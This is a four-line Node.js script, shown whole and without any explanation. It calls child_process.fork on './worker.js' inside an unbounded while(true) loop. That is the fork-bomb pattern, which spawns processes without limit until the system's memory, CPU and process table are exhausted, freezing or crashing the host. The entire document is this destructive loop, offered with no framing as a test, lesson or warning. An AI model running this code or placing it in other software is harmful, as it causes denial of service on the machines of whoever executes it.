const { fork } = require('child_process');
while (true) {
  fork('./worker.js');
}
